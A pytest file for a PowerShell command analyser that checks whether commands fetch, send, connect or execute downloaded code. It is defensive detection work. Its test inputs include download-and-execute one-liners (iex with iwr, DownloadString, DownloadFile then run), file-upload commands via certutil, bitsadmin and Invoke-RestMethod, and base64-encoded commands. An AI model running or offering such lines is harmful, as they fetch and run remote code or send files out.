"""What the reader of PowerShell says of each command."""

from __future__ import annotations

from base64 import b64encode

import pytest

from rempart.meaning.findings import INSTRUCTIONS, Act, Document, Finding, Form, Spot, Value
from rempart.meaning.readers.code import read_code
from rempart.meaning.readers.shell import read_shell

_URL = "https://a.fr/i"


def found(program: str) -> list[Finding]:
    findings = list(read_code(f"#ps1_sysnative\n{program}", Spot()))
    texts = [item for item in findings if isinstance(item, Document) and item.form is Form.SHELL]
    return [*findings, *(inner for item in texts for inner in read_shell(item.text, item.spot))]


def acts(program: str) -> set[tuple[str, Act | None]]:
    return {(item.text, item.spot.act) for item in found(program) if isinstance(item, Value)}


@pytest.mark.parametrize(
    ("program", "act"),
    [
        (f"Invoke-WebRequest -Uri {_URL}", Act.FETCHES),
        (f"iwr {_URL} -OutFile C:\\x.zip", Act.FETCHES),
        (f'irm -Method Post -Uri "{_URL}" -Body $b', Act.SENDS),
        (f"Invoke-RestMethod -Uri {_URL} -Method PUT -InFile C:\\d", Act.SENDS),
        (f"Invoke-WebRequest `\n  -Uri {_URL} `\n  -Method Post", Act.SENDS),
        (f'$u = "{_URL}"\nirm -Uri $u -Method Put -InFile d', Act.SENDS),
        (f'param([string]$Url = "{_URL}")\niwr -Method Post -Uri $Url', Act.SENDS),
        (f"<# why #> iwr {_URL} -Method Patch", Act.SENDS),
        (f"if ($true) {{ iwr {_URL} -Method Delete }}", Act.SENDS),
        (f"(New-Object Net.WebClient).UploadFile('{_URL}', 'C:\\d')", Act.SENDS),
        (f"Start-BitsTransfer -Source C:\\d -Destination {_URL} -TransferType Upload", Act.SENDS),
        (f"Start-BitsTransfer -Source {_URL} -Destination C:\\d", Act.FETCHES),
        (f"certutil -urlcache -split -f {_URL} x.exe", Act.FETCHES),
        (f"bitsadmin /transfer j /upload {_URL} C:\\d", Act.SENDS),
        (f"bitsadmin /transfer j /download {_URL} C:\\d", Act.FETCHES),
        (f"curl.exe -T d {_URL}", Act.SENDS),
        (f"curl -T d {_URL}", Act.SENDS),
        (f'Write-Host "{_URL}"', Act.REFERS),
    ],
)
def test_an_address_has_the_act_of_its_command(program: str, act: Act) -> None:
    assert {each for text, each in acts(program) if text == _URL and each is not None} == {act}


@pytest.mark.parametrize(
    ("program", "act"),
    [
        ("Send-MailMessage -SmtpServer a.fr -To x@b.fr", Act.SENDS),
        ("New-PSDrive -Name Z -Root \\\\a.fr\\s -PSProvider FileSystem", Act.CONNECTS),
        ("net use Z: \\\\a.fr\\s", Act.CONNECTS),
        ("Copy-Item d \\\\a.fr\\s\\", Act.CONNECTS),
        ("$c = New-Object Net.Sockets.TcpClient('a.fr', 443)", Act.CONNECTS),
    ],
)
def test_a_host_is_connected_to(program: str, act: Act) -> None:
    assert ("a.fr", act) in acts(program)


@pytest.mark.parametrize(
    "program",
    [
        f"iex (iwr {_URL})",
        f"iex ((New-Object Net.WebClient).DownloadString('{_URL}'))",
        f"iwr {_URL} | iex",
        f"$s = irm {_URL}\niex $s",
        f"& ([scriptblock]::Create((irm {_URL})))",
        f"iwr {_URL} -OutFile C:\\x.ps1; & C:\\x.ps1",
        f"iwr {_URL} -OutFile x.exe\nStart-Process x.exe",
        f"(New-Object Net.WebClient).DownloadFile('{_URL}', 'C:\\x.exe'); C:\\x.exe",
    ],
)
def test_what_is_fetched_and_run_is_instructions(program: str) -> None:
    assert INSTRUCTIONS in {item.spot.key for item in found(program) if isinstance(item, Value) and item.text == _URL}


@pytest.mark.parametrize(
    "program",
    [f"iwr {_URL} -OutFile C:\\x.csv", f"$s = irm {_URL}\nWrite-Host $s", f"iex 'dir'\niwr {_URL} | ConvertFrom-Json"],
)
def test_what_is_fetched_and_not_run_is_no_instructions(program: str) -> None:
    assert INSTRUCTIONS not in {item.spot.key for item in found(program)}


@pytest.mark.parametrize("program", [f"# iwr {_URL}", f"<#\niwr {_URL}\n#>", f"<# {_URL}"])
def test_comments_say_nothing(program: str) -> None:
    assert acts(program) == set()


@pytest.mark.parametrize(
    "program",
    [
        "Set-Content -Path C:\\a.conf -Value 'host=b.fr'",
        "'host=b.fr' | Out-File C:\\a.conf",
        "Add-Content C:\\a.conf 'host=b.fr'",
        "@'\nhost=b.fr\n'@ | Set-Content -Path C:\\a.conf",
    ],
)
def test_what_is_written_to_a_file_is_a_text_under_its_name(program: str) -> None:
    documents = {(item.spot.key, item.text.strip()) for item in found(program) if isinstance(item, Document)}

    assert ("C:/a.conf", "host=b.fr") in documents


@pytest.mark.parametrize("name", ["pwsh", "powershell.exe", "@powershell -NoProfile"])
def test_an_encoded_program_is_read(name: str) -> None:
    program = f"iwr {_URL}"
    packed = b64encode(program.encode("utf-16-le")).decode()

    findings = read_shell(f"{name.lstrip('@')} -EncodedCommand {packed}", Spot())

    assert program in {item.text for item in findings if isinstance(item, Document)}


@pytest.mark.parametrize(
    "text",
    [
        "<#" * 100_000,
        "(" * 100_000,
        "@'\n" * 50_000,
        '"$(' * 50_000,
        "iex (" * 30_000,
        "`" * 100_000,
        "$a=" * 50_000,
        "{iwr https://a.fr}|" * 10_000,
        "(iwr https://a.fr " * 20_000 + ")" * 20_000,
    ],
    ids=range(9),
)
def test_hostile_programs_are_read_to_their_end_without_growing(text: str) -> None:
    assert len(found(text)) <= len(text)
